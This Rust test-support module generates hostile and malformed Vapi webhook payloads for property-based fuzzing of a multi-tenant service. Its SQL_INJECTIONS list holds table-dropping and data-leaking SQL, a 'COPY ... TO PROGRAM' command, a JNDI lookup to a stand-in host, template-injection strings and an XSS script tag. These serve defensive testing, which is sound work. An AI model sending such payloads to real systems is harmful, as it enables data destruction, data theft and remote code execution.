//! Hostile Vapi payloads: proptest strategies for whole messages whose every field may be
//! missing, null, of the wrong JSON type, huge, exotic unicode, `\u0000`, an SQL injection, an
//! out-of-range number or an invalid timestamp, plus extra fields and deep nesting; and a
//! mutator of the fixture payloads (tests/fixtures/vapi) at the JSON and at the byte level.
//!
//! Every field of a generated message has a valid value and a defective one, and a plan picks
//! which fields get the defective one: none (about a third of the bodies), exactly one (about
//! half), or several. Two in five fixture mutants only move the fixture to another call id
//! and plant foreign ids (another org's assistant or phone number id, `org_id` / `orgId` of
//! another org), the rest get one mutation mostly, sometimes several and byte-level damage.
//! The generators do not label their bodies: the fuzz tests classify each final body with
//! `contract::classify`, which reads the whole body, so the label is true of what is sent.
//! The ids come from a [`Ctx`] of several orgs.
//!
//! Some inputs cannot be expressed as a `serde_json::Value` (numbers beyond f64, lone UTF-16
//! surrogate escapes, nesting deeper than serde_json's recursion limit): they are written as
//! placeholders and substituted into the serialized text ([`finish`]).

use proptest::prelude::*;
use proptest::sample::select;
use serde_json::{json, Map, Value};

use crate::figures::Rng;

/// Strings an attacker would try in a text field. All must be stored verbatim where the field
/// is stored (tests/attacks.rs), and never break anything here.
pub const SQL_INJECTIONS: &[&str] = &[
    "'; DROP TABLE voxanne.calls; --",
    "' OR '1'='1",
    "' OR 1=1 --",
    "\"; DROP TABLE voxanne.outbox; --",
    "Robert'); DROP TABLE students;--",
    "$$; DELETE FROM voxanne.agents; $$",
    "$body$ || (SELECT string_agg(org_id::text, ',') FROM voxanne.agents) || $body$",
    "' || (SELECT org_id::text FROM voxanne.agents LIMIT 1) || '",
    "'); UPDATE voxanne.calls SET org_id = gen_random_uuid(); --",
    "1; SELECT pg_sleep(10)",
    "\\'; COPY voxanne.calls TO PROGRAM 'id'; --",
    "E'\\x27' OR true",
    "/**/UNION/**/SELECT/**/*/**/FROM/**/voxanne.processed_webhook_events",
    "%s%s%s%n%x",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "${jndi:ldap://evil.example/a}",
    "<script>alert(1)</script>",
    "\\\\\\'\\\"",
    "status:x:ringing",
    "report:",
    "NULL",
    "null",
    "-- ",
    ";",
];

/// Exotic but valid text.
pub const UNICODE: &[&str] = &[
    "ünïcödé",
    "😀👩‍👩‍👧‍👦🏳️‍🌈",
    "日本語のテキスト",
    "مرحبا بالعالم",
    "e\u{301}\u{302}\u{303}",
    "\u{200b}\u{200c}\u{200d}\u{feff}",
    "\u{2028}\u{2029}",
    "\u{10ffff}\u{e000}",
    "\t\r\n\u{7}\u{1b}[31m",
    "a\u{202e}evil\u{202c}b",
];

/// Text that cannot be stored in PostgreSQL text: jsonb refuses `\u0000` (22P05).
pub const NUL: &str = "before\u{0}after";

/// Raw JSON fragments substituted for placeholders after serialization.
pub fn raw_fragments() -> Vec<String> {
    let deep_array = |n: usize| format!("{}{}", "[".repeat(n), "]".repeat(n));
    let deep_object = |n: usize| format!("{}1{}", "{\"a\":".repeat(n), "}".repeat(n));
    vec![
        "1e400".into(),
        "-1e400".into(),
        format!("1{}", "0".repeat(400)),
        "1.7976931348623157e309".into(),
        "1e-400".into(),
        "123456789012345678901234567890".into(),
        "-0".into(),
        "1E+2".into(),
        "\"\\ud800\"".into(),
        "\"x\\udc00y\"".into(),
        "\"\\u0000\"".into(),
        "\"a\\u0000b\"".into(),
        deep_array(100),
        deep_array(129),
        deep_array(300),
        deep_array(5000),
        deep_object(129),
        deep_object(1000),
    ]
}

fn raw(i: usize) -> Value {
    Value::String(format!("__RAW_{i}__"))
}

/// Serialize `v`, substituting placeholders.
pub fn finish(v: &Value) -> String {
    let mut text = v.to_string();
    if text.contains("\"__RAW_") {
        for (i, fragment) in raw_fragments().iter().enumerate().rev() {
            text = text.replace(&format!("\"__RAW_{i}__\""), fragment);
        }
    }
    text
}

/// Ids the generated messages use: several orgs, each with an active agent for an assistant
/// and a phone number, an assistant whose agent is inactive, and a pool of call ids that every
/// org's messages draw from (so a call id is also "already used by another org").
#[derive(Debug, Clone)]
pub struct Ctx {
    /// The orgs' uuids, as text (planted as `org_id` / `orgId`, which nobody may trust).
    pub orgs: Vec<String>,
    /// `assistants[i]` and `phones[i]` belong to `orgs[i]`.
    pub assistants: Vec<String>,
    pub phones: Vec<String>,
    /// An assistant id registered, then deactivated.
    pub inactive: String,
    pub calls: Vec<String>,
}

impl Ctx {
    fn any_org(&self) -> BoxedStrategy<Value> {
        select(self.orgs.clone()).prop_map(Value::from).boxed()
    }
}

fn huge(n: usize, unit: &'static str) -> String {
    unit.repeat(n / unit.len() + 1)
}

fn wrong_type() -> BoxedStrategy<Value> {
    prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i64>().prop_map(Value::from),
        any::<f64>().prop_filter("finite", |f| f.is_finite()).prop_map(Value::from),
        Just(json!([])),
        Just(json!({})),
        Just(json!([1, "two", null])),
        Just(json!({"nested": {"deeper": [1, 2, {"x": "y"}]}})),
    ]
    .boxed()
}

/// Strings of every kind, for text fields.
fn nasty_text() -> BoxedStrategy<Value> {
    prop_oneof![
        30 => select(SQL_INJECTIONS).prop_map(Value::from),
        30 => select(UNICODE).prop_map(Value::from),
        10 => Just(Value::from(NUL)),
        10 => Just(Value::from("")),
        10 => Just(Value::from(" ")),
        20 => any::<String>().prop_map(Value::from),
        10 => select(vec![256usize, 300, 2049, 4000]).prop_flat_map(|n| select(vec!["x", "é", "😀"]).prop_map(move |u| Value::from(huge(n, u)))),
        2 => select(vec![32 * 1024 + 1, 65 * 1024, 70_000]).prop_map(|n| Value::from(huge(n, "ab"))),
    ]
    .boxed()
}

/// A few ordinary words (a regex strategy is ten times slower to generate in a debug build).
fn words() -> BoxedStrategy<Value> {
    const WORDS: &[&str] = &[
        "hello", "I'd", "like", "to", "book", "a", "cleaning", "on", "Tuesday", "at", "3pm,", "please.", "Sure!",
        "what", "time", "works?", "O'Brien", "isn't", "here", "—", "ok", "bye",
    ];
    proptest::collection::vec(select(WORDS), 1..14).prop_map(|w| Value::from(w.join(" "))).boxed()
}

/// Text an attacker sends that is still valid where text is stored: SQL injections, exotic
/// unicode, ordinary words.
fn stored_text() -> BoxedStrategy<Value> {
    prop_oneof![
        6 => words(),
        1 => select(SQL_INJECTIONS).prop_map(Value::from),
        1 => select(UNICODE).prop_map(Value::from),
    ]
    .boxed()
}

/// Bad numbers for cost, duration and timestamps.
fn nasty_number() -> BoxedStrategy<Value> {
    prop_oneof![
        select(vec![-1.0f64, -0.01, 604_801.0, 1_000_000.01, 1e15, 1e300, -1e300, 5e-324, f64::MAX, f64::MIN])
            .prop_map(Value::from),
        select(vec![i64::MIN, i64::MAX, -1, 0]).prop_map(Value::from),
        Just(Value::from(u64::MAX)),
        Just(Value::from("12.5")),
        Just(Value::from("NaN")),
        Just(Value::from("Infinity")),
    ]
    .boxed()
}

/// A valid `message.timestamp`: epoch milliseconds (whole, fractional) or ISO-8601.
fn good_timestamp() -> BoxedStrategy<Value> {
    let t0 = crate::vapi::T0_MS;
    prop_oneof![
        6 => (0i64..86_400_000).prop_map(move |d| Value::from(t0 + d)),
        2 => (0i64..86_400_000).prop_map(move |d| Value::from((t0 + d) as f64 + 0.5)),
        2 => (0i64..86_400_000).prop_map(move |d| Value::from(crate::vapi::iso(t0 + d))),
    ]
    .boxed()
}

/// Timestamps that are not valid, or are at the edges.
fn bad_timestamp() -> BoxedStrategy<Value> {
    prop_oneof![
        1 => select(vec![
            "yesterday", "", "now", "2026-13-45T99:00:00Z", "2026-11-25", "2026-11-25 10:00:00",
            "2026-11-25T10:00:00+25:00", "9999-12-31T23:59:59Z", "0000-01-01T00:00:00Z",
            "-infinity", "infinity", "294277-01-01T00:00:00Z", "1970-01-01T00:00:00.0000000001Z",
            "2026-11-25T10:00:00.123456789+05:30", "2026-02-29T00:00:00Z",
        ])
        .prop_map(Value::from),
        1 => select(vec![-1.0f64, 0.0, 1e300, -1e300, 9.3e18, -9.3e18, 253_402_300_800_000.0, -210_866_803_200_001.0, 9_224_318_016_000_000.0])
            .prop_map(Value::from),
        1 => wrong_type(),
    ]
    .boxed()
}

/// A field: its valid value (`None`: validly absent) and a defective alternative (`None`:
/// missing), of which [`message`] uses one.
type Choice = (Option<Value>, Option<Value>);

fn choice(valid: BoxedStrategy<Value>, absent_ok: bool, bad: BoxedStrategy<Value>) -> BoxedStrategy<Choice> {
    let good = if absent_ok {
        prop_oneof![6 => valid.prop_map(Some), 1 => Just(None)].boxed()
    } else {
        valid.prop_map(Some).boxed()
    };
    let bad = prop_oneof![
        1 => Just(None),
        1 => Just(Some(Value::Null)),
        1 => wrong_type().prop_map(Some),
        3 => bad.prop_map(Some),
    ];
    (good, bad).boxed()
}

fn put(m: &mut Map<String, Value>, key: &str, v: Option<Value>) {
    if let Some(v) = v {
        m.insert(key.to_string(), v);
    }
}

/// A JSON value of bounded depth, for extra fields.
fn any_json(ctx: &Ctx) -> BoxedStrategy<Value> {
    let leaf = prop_oneof![
        Just(Value::Null),
        any::<bool>().prop_map(Value::from),
        any::<i32>().prop_map(Value::from),
        nasty_text(),
        ctx.any_org(),
    ];
    leaf.prop_recursive(4, 24, 4, |inner| {
        prop_oneof![
            proptest::collection::vec(inner.clone(), 0..4).prop_map(Value::from),
            proptest::collection::btree_map(
                select(vec!["a", "b", "id", "org_id", "orgId", "message", "call", "ünï", ""]),
                inner,
                0..4
            )
            .prop_map(|m| Value::Object(m.into_iter().map(|(k, v)| (k.to_string(), v)).collect())),
        ]
    })
    .boxed()
}

/// Extra fields: an org id that must not be trusted (another org's, most often), fields of
/// every name and value, rarely a number beyond f64, a lone surrogate or deep nesting.
fn extras(ctx: &Ctx) -> BoxedStrategy<Vec<(String, Value)>> {
    let planted = (select(vec!["org_id", "orgId", "tenant"]).prop_map(String::from), ctx.any_org());
    let other = (
        prop_oneof![
            select(vec!["org_id", "orgId", "tenant", "__proto__", "constructor", "ünïcödé", "", "message", "type"])
                .prop_map(String::from),
            proptest::collection::vec(select(vec!["a", "x", "call", "id", "Z", "9", "_"]), 1..6)
                .prop_map(|p| p.concat()),
            Just(huge(300, "k")),
        ],
        prop_oneof![40 => any_json(ctx), 1 => (0..raw_fragments().len()).prop_map(raw)],
    );
    proptest::collection::vec(prop_oneof![3 => planted, 2 => other], 0..3).boxed()
}

/// The `call` object: ids of any org (the assistant of one, the phone number of another),
/// `orgId` of yet another. Returns the valid call and a per-field defective alternative.
fn call(ctx: &Ctx) -> BoxedStrategy<(Value, usize, Value)> {
    let ids = select(ctx.calls.clone()).prop_map(Value::from).boxed();
    let good_assistant = prop_oneof![
        10 => select(ctx.assistants.clone()).prop_map(Value::from),
        1 => Just(Value::from("")),
    ]
    .boxed();
    let bad_assistant = prop_oneof![
        2 => Just(Value::from("asst_nobody_has_this")),
        2 => Just(Value::from(ctx.inactive.clone())),
        1 => nasty_text(),
    ]
    .boxed();
    let good_phone = select(ctx.phones.clone()).prop_map(Value::from).boxed();
    let bad_phone = prop_oneof![2 => Just(Value::from("pn_nobody_has_this")), 1 => nasty_text()].boxed();
    let call_type = select(vec!["inboundPhoneCall", "outboundPhoneCall", "webCall"]).prop_map(Value::from).boxed();
    let number = select(vec!["+15551230001", "+442071234567", "0", "not a number"]).prop_map(Value::from).boxed();
    (
        (
            choice(ids, false, nasty_text()),
            choice(good_assistant, true, bad_assistant),
            choice(call_type, true, nasty_text()),
            choice(number.prop_map(|n| json!({ "number": n })).boxed(), true, nasty_text()),
            choice(good_phone, true, bad_phone),
        ),
        extras(ctx),
        ctx.any_org(),
        any::<usize>(),
        0..4u8,
    )
        .prop_map(|(fields, extra, org, which, mode)| {
            let (id, assistant, call_type, customer, phone) = fields;
            let build = |bad: Option<usize>| {
                let pick = |i: usize, c: &Choice| if bad == Some(i) { c.1.clone() } else { c.0.clone() };
                let mut m = Map::new();
                put(&mut m, "id", pick(0, &id));
                put(&mut m, "orgId", Some(org.clone()));
                put(&mut m, "assistantId", pick(1, &assistant));
                put(&mut m, "type", pick(2, &call_type));
                put(&mut m, "customer", pick(3, &customer));
                put(&mut m, "phoneNumberId", pick(4, &phone));
                for (k, v) in &extra {
                    m.insert(k.clone(), v.clone());
                }
                Value::Object(m)
            };
            // the defective call: one field replaced by its alternative (mode 0: two fields)
            let bad = build(Some(which % 5));
            let bad = if mode == 0 {
                let mut b = bad;
                if let (Value::Object(m), Value::Object(extra)) = (&mut b, build(Some((which / 5) % 5))) {
                    let k = ["id", "assistantId", "type", "customer", "phoneNumberId"][(which / 5) % 5];
                    match extra.get(k) {
                        Some(v) => m.insert(k.into(), v.clone()),
                        None => m.remove(k),
                    };
                }
                b
            } else {
                bad
            };
            (build(None), which, bad)
        })
        .boxed()
}

/// The message types, with the documented ones most often; `true`: a type this product acts on.
fn message_type() -> BoxedStrategy<Value> {
    prop_oneof![
        6 => Just(Value::from("status-update")),
        5 => Just(Value::from("transcript")),
        1 => Just(Value::from("transcript[transcriptType=\"final\"]")),
        4 => Just(Value::from("end-of-call-report")),
        1 => select(vec!["speech-update", "hang", "tool-calls", "assistant-request", "conversation-update", "model-output"]).prop_map(Value::from),
    ]
    .boxed()
}

fn bad_message_type() -> BoxedStrategy<Value> {
    prop_oneof![
        1 => select(vec!["", "STATUS-UPDATE", "transcript[", "end-of-call-report ", "transcript[transcriptType=\"partial\"]"]).prop_map(Value::from),
        1 => wrong_type(),
    ]
    .boxed()
}

/// How many fields of a generated message are defective: none (about a third of the cases),
/// exactly one (about half: most cases have one right answer), or each with probability 1/4.
#[derive(Debug, Clone, Copy)]
enum Plan {
    Valid,
    One(usize),
    Many(u32),
}

fn plan() -> BoxedStrategy<Plan> {
    prop_oneof![
        6 => Just(Plan::Valid),
        9 => any::<usize>().prop_map(Plan::One),
        3 => (any::<u32>(), any::<u32>()).prop_map(|(a, b)| Plan::Many(a & b)),
    ]
    .boxed()
}

/// A whole message: `{"message": {...}}` with fields of every type, or a broken envelope. Each
/// field has a valid value and a defective one; [`plan`] decides which fields get the
/// defective one, so about a third of the bodies are valid (for the kind and the org the
/// classifier, `contract::classify`, derives) and most of the others have a single defect.
pub fn message(ctx: &Ctx) -> BoxedStrategy<String> {
    let status = select(vec!["scheduled", "queued", "ringing", "in-progress", "forwarding", "ended"])
        .prop_map(Value::from)
        .boxed();
    let bad_status = prop_oneof![
        2 => select(vec!["dialing", "RINGING", "ended ", ""]).prop_map(Value::from),
        1 => nasty_text(),
    ]
    .boxed();
    let role = select(vec!["user", "assistant"]).prop_map(Value::from).boxed();
    let bad_role =
        prop_oneof![2 => select(vec!["bot", "system", "USER"]).prop_map(Value::from), 1 => nasty_text()].boxed();
    let ttype = prop_oneof![5 => Just(Value::from("final")), 1 => Just(Value::from("partial"))].boxed();
    let bad_ttype =
        prop_oneof![2 => select(vec!["draft", "FINAL", ""]).prop_map(Value::from), 1 => nasty_text()].boxed();
    let url = select(vec!["https://recordings.example.com/a.wav", "http://recordings.example.com/b.wav", "https://"])
        .prop_map(Value::from)
        .boxed();
    let bad_url = prop_oneof![
        2 => select(vec!["ftp://recordings.example.com/c.wav", "javascript:alert(1)", "HTTPS://EXAMPLE.COM/UPPER.wav"]).prop_map(Value::from),
        1 => Just(Value::from(format!("https://x.example/{}", huge(2049, "u")))),
        1 => nasty_text(),
    ]
    .boxed();
    let money =
        prop_oneof![4 => (0.0f64..100.0).prop_map(Value::from), 1 => (0i64..1000).prop_map(Value::from)].boxed();
    let duration = prop_oneof![4 => (0.0f64..7200.0).prop_map(Value::from), 1 => Just(Value::from(604_800))].boxed();
    // startedAt <= endedAt
    let t0 = crate::vapi::T0_MS;
    let span = (0i64..86_400_000, 0i64..3_600_000).boxed();
    let big_text = prop_oneof![
        30 => stored_text(),
        1 => select(vec![1024 * 1024 + 1, 200_000]).prop_map(|n| Value::from(huge(n, "t"))),
    ]
    .boxed();
    let fields = (
        (
            choice(message_type(), false, bad_message_type()),
            choice(status, false, bad_status),
            choice(good_timestamp(), false, bad_timestamp()),
            call(ctx),
            choice(select(ctx.assistants.clone()).prop_map(|a| json!({ "id": a })).boxed(), true, wrong_type()),
            choice(role, false, bad_role),
            choice(ttype, true, bad_ttype),
            choice(stored_text(), false, nasty_text()),
        ),
        (
            choice(stored_text(), true, nasty_text()),
            span,
            choice(Just(Value::Null).boxed(), true, bad_timestamp()),
            choice(money, true, nasty_number()),
            choice(duration, true, nasty_number()),
            choice(stored_text().prop_map(|s| json!({ "summary": s })).boxed(), true, wrong_type()),
            choice(
                (big_text, url.clone()).prop_map(|(t, u)| json!({"transcript": t, "recordingUrl": u})).boxed(),
                true,
                wrong_type(),
            ),
            choice(url, true, bad_url),
        ),
        extras(ctx),
        (plan(), 0..20u8, prop_oneof![30 => Just(None), 1 => (0..raw_fragments().len()).prop_map(Some)]),
    );
    fields
        .prop_map(
            move |(
                (kind, status, ts, call, assistant, role, ttype, text),
                (reason, (start, len), ended, cost, duration, analysis, artifact, legacy_url),
                extra,
                (plan, envelope, fragment),
            )| {
                // fields 0..=15 as below; 16: the envelope; 17: a raw fragment
                const FIELDS: usize = 18;
                let bad = |i: usize| match plan {
                    Plan::Valid => false,
                    Plan::One(k) => k % FIELDS == i,
                    Plan::Many(mask) => mask & (1 << i) != 0,
                };
                let pick = |i: usize, c: Choice| if bad(i) { c.1 } else { c.0 };
                let started = Value::from(crate::vapi::iso(t0 + start));
                let ended_good = Value::from(crate::vapi::iso(t0 + start + len));
                let mut m = Map::new();
                put(&mut m, "type", pick(0, kind));
                put(&mut m, "status", pick(1, status));
                put(&mut m, "timestamp", pick(2, ts));
                m.insert("call".into(), if bad(3) { call.2 } else { call.0 });
                if bad(4) || envelope % 4 == 0 {
                    put(&mut m, "assistant", pick(4, assistant));
                }
                put(&mut m, "role", pick(5, role));
                put(&mut m, "transcriptType", pick(6, ttype));
                put(&mut m, "transcript", pick(7, text));
                put(&mut m, "endedReason", pick(8, reason));
                put(&mut m, "startedAt", Some(started));
                put(&mut m, "endedAt", if bad(9) { ended.1 } else { Some(ended_good) });
                put(&mut m, "cost", pick(10, cost));
                put(&mut m, "durationSeconds", pick(11, duration));
                put(&mut m, "analysis", pick(12, analysis));
                put(&mut m, "artifact", pick(13, artifact));
                if bad(14) || envelope % 5 == 1 {
                    put(&mut m, "recordingUrl", pick(14, legacy_url));
                }
                if bad(15) && call.1 % 2 == 0 {
                    m.remove("call");
                }
                for (k, v) in extra {
                    m.insert(k, v);
                }
                // a number beyond f64, a lone surrogate or deep nesting in a field
                if bad(17) {
                    let i = fragment.unwrap_or(call.1 % raw_fragments().len());
                    let field = ["timestamp", "cost", "durationSeconds", "transcript", "extra"][i % 5];
                    m.insert(field.into(), raw(i));
                }
                let body = if bad(16) {
                    match envelope % 4 {
                        0 => json!(Value::Object(m)),                // no envelope
                        1 => json!({"message": [Value::Object(m)]}), // message is an array
                        2 => json!({"msg": Value::Object(m)}),       // wrong key
                        _ => json!([{"message": Value::Object(m)}]), // body is an array
                    }
                } else {
                    json!({"message": Value::Object(m)})
                };
                finish(&body)
            },
        )
        .boxed()
}

// ---------------------------------------------------------------------------------------------
// Mutation of the fixtures

/// The fixture payloads, once for each org of the context: the fixtures' assistant and phone
/// number replaced by the org's, their call ids by ids of the shared pool. Named
/// `<org index>/<fixture>`.
pub fn fixtures(ctx: &Ctx) -> Vec<(String, Value)> {
    let dir = crate::figures::workspace_root().join("tests/fixtures/vapi");
    let mut out = Vec::new();
    let mut entries: Vec<_> = std::fs::read_dir(&dir)
        .unwrap_or_else(|e| panic!("{}: {e}", dir.display()))
        .map(|e| e.unwrap().path())
        .filter(|p| p.extension().is_some_and(|x| x == "json"))
        .collect();
    entries.sort();
    for org in 0..ctx.orgs.len() {
        for (i, path) in entries.iter().enumerate() {
            let j = i + org * entries.len();
            let text = std::fs::read_to_string(path).unwrap();
            let text = text
                .replace("asst_fixture", &ctx.assistants[org])
                .replace("pn_fixture", &ctx.phones[org])
                .replace("2f6d4c1e-0b8a-4d51-9a57-0f3c9e1b7a10", &ctx.calls[j % ctx.calls.len()])
                .replace("7c1e9a2b-5d3f-4e60-8a71-b2c3d4e5f607", &ctx.calls[(j + 1) % ctx.calls.len()]);
            let name = format!("{org}/{}", path.file_stem().unwrap().to_string_lossy());
            out.push((name, serde_json::from_str(&text).unwrap()));
        }
    }
    out
}

/// Paths (as key/index lists) of every value inside `v`.
fn paths(v: &Value, prefix: &mut Vec<Value>, out: &mut Vec<Vec<Value>>) {
    out.push(prefix.clone());
    match v {
        Value::Object(m) => {
            for (k, child) in m {
                prefix.push(Value::from(k.clone()));
                paths(child, prefix, out);
                prefix.pop();
            }
        }
        Value::Array(a) => {
            for (i, child) in a.iter().enumerate() {
                prefix.push(Value::from(i));
                paths(child, prefix, out);
                prefix.pop();
            }
        }
        _ => {}
    }
}

fn at_mut<'a>(v: &'a mut Value, path: &[Value]) -> Option<&'a mut Value> {
    let mut cur = v;
    for p in path {
        cur = match p {
            Value::String(k) => cur.as_object_mut()?.get_mut(k)?,
            Value::Number(i) => cur.as_array_mut()?.get_mut(i.as_u64()? as usize)?,
            _ => return None,
        };
    }
    Some(cur)
}

/// An id of another tenant, or an org id nobody may trust.
fn foreign(rng: &mut Rng, ctx: &Ctx) -> Value {
    match rng.below(5) {
        0 => Value::from(rng.pick(&ctx.assistants).clone()),
        1 => Value::from(rng.pick(&ctx.phones).clone()),
        2 => Value::from(rng.pick(&ctx.calls).clone()),
        3 => Value::from(ctx.inactive.clone()),
        _ => Value::from(rng.pick(&ctx.orgs).clone()),
    }
}

/// A value an attacker or a broken sender could put anywhere.
fn replacement(rng: &mut Rng, ctx: &Ctx, old: &Value) -> Value {
    match rng.below(17) {
        0 => Value::Null,
        1 => Value::from(rng.chance(0.5)),
        2 => Value::from(rng.next_u64() as i64),
        3 => Value::from(f64::from_bits(rng.next_u64() & 0x7fef_ffff_ffff_ffff)),
        4 => Value::from(*rng.pick(SQL_INJECTIONS)),
        5 => Value::from(*rng.pick(UNICODE)),
        6 => Value::from(NUL),
        7 => {
            let n = *rng.pick(&[256usize, 2049, 33_000, 70_000]);
            let unit = ["x", "é", "😀"][rng.below(3)];
            Value::from(huge(n, unit))
        }
        8 => raw(rng.below(raw_fragments().len())),
        9 => json!([old.clone()]),
        10 => json!({ "value": old.clone() }),
        11 => Value::from(""),
        12 => match old {
            Value::Number(n) => Value::from(-n.as_f64().unwrap_or(1.0) * 1e300),
            Value::String(s) => Value::from(s.chars().rev().collect::<String>()),
            _ => Value::from(ctx.calls[rng.below(ctx.calls.len())].clone()),
        },
        13 => {
            Value::from(*rng.pick(&["yesterday", "2026-13-45T99:00:00Z", "ended", "final", "partial", "user", "robot"]))
        }
        14 => Value::from(ctx.calls[rng.below(ctx.calls.len())].clone()),
        15 => foreign(rng, ctx),
        _ => json!({}),
    }
}

/// A change that keeps a fixture valid but moves it between tenants or plants an id that must
/// not be trusted: another org's assistant or phone number id as the route, a call id another
/// org already used, an `org_id` / `orgId` of another org anywhere.
fn plant(rng: &mut Rng, ctx: &Ctx, v: &mut Value) {
    let org = Value::from(rng.pick(&ctx.orgs).clone());
    let Some(message) = v.get_mut("message").and_then(Value::as_object_mut) else { return };
    match rng.below(6) {
        0 => {
            message.insert(rng.pick(&["org_id", "orgId"]).to_string(), org);
        }
        1 => {
            if let Some(call) = message.get_mut("call").and_then(Value::as_object_mut) {
                call.insert("orgId".into(), org);
            }
        }
        2 => {
            if let Some(call) = message.get_mut("call").and_then(Value::as_object_mut) {
                call.insert("id".into(), Value::from(rng.pick(&ctx.calls).clone()));
            }
        }
        3 => {
            if let Some(call) = message.get_mut("call").and_then(Value::as_object_mut) {
                if call.get("assistantId").is_some_and(Value::is_string) {
                    call.insert("assistantId".into(), Value::from(rng.pick(&ctx.assistants).clone()));
                } else {
                    call.insert("phoneNumberId".into(), Value::from(rng.pick(&ctx.phones).clone()));
                }
            }
        }
        4 => {
            // the phone number of another org beside the assistant (the assistant wins)
            if let Some(call) = message.get_mut("call").and_then(Value::as_object_mut) {
                call.insert("phoneNumberId".into(), Value::from(rng.pick(&ctx.phones).clone()));
            }
        }
        _ => {
            if let Some(obj) = v.as_object_mut() {
                obj.insert(rng.pick(&["org_id", "orgId"]).to_string(), org);
            }
        }
    }
}

/// A mutant of a fixture. Two in five only plant foreign ids (and stay valid); the others
/// get 1-4 JSON-level mutations anywhere (missing keys, values of every kind, foreign ids),
/// then, sometimes, byte-level damage to the text.
pub fn mutate(rng: &mut Rng, ctx: &Ctx, base: &Value) -> String {
    let mut v = base.clone();
    if rng.chance(0.4) {
        // a call id of the shared pool (so the valid mutants are new events, not duplicates of
        // the fixture), then foreign ids
        if let Some(call) = v.pointer_mut("/message/call").and_then(Value::as_object_mut) {
            call.insert("id".into(), Value::from(rng.pick(&ctx.calls).clone()));
        }
        if let Some(ts) = v.pointer_mut("/message/timestamp").filter(|t| t.is_number()) {
            *ts = Value::from(crate::vapi::T0_MS + rng.below(86_400_000) as i64);
        }
        for _ in 0..1 + rng.below(2) {
            plant(rng, ctx, &mut v);
        }
        return finish(&v);
    }
    // one mutation in most cases, so most mutants have one defect
    let n = if rng.chance(0.7) { 1 } else { 2 + rng.below(3) };
    for _ in 0..n {
        let mut all = Vec::new();
        paths(&v, &mut Vec::new(), &mut all);
        let path = all[rng.below(all.len())].clone();
        match rng.below(5) {
            // delete the key (or the whole message)
            0 if !path.is_empty() => {
                let (last, parent) = path.split_last().unwrap();
                if let (Some(Value::Object(m)), Value::String(k)) = (at_mut(&mut v, parent), last) {
                    m.remove(k);
                }
            }
            // add an extra field
            1 => {
                if let Some(Value::Object(m)) = at_mut(&mut v, &path) {
                    let key = rng.pick(&["org_id", "orgId", "extra", "ünï", "", "id", "type"]).to_string();
                    m.insert(key, replacement(rng, ctx, &Value::Null));
                }
            }
            _ => {
                if let Some(slot) = at_mut(&mut v, &path) {
                    let old = slot.clone();
                    *slot = replacement(rng, ctx, &old);
                }
            }
        }
    }
    let mut text = finish(&v);
    if rng.chance(0.12) {
        let mut bytes = text.into_bytes();
        for _ in 0..1 + rng.below(3) {
            if bytes.is_empty() {
                break;
            }
            let i = rng.below(bytes.len());
            match rng.below(4) {
                0 => {
                    const NOISE: &[u8] = b" {}[]\":,\\0a-e9";
                    bytes[i] = NOISE[rng.below(NOISE.len())];
                }
                1 => {
                    let end = (i + 1 + rng.below(8)).min(bytes.len());
                    bytes.drain(i..end);
                }
                2 => bytes.truncate(i),
                _ => {
                    let chunk: Vec<u8> = bytes[i..(i + 8).min(bytes.len())].to_vec();
                    bytes.splice(i..i, chunk);
                }
            }
        }
        // the SQL path needs UTF-8 text; the relay gets the raw bytes (fuzz_relay)
        text = String::from_utf8_lossy(&bytes).into_owned();
    }
    text
}
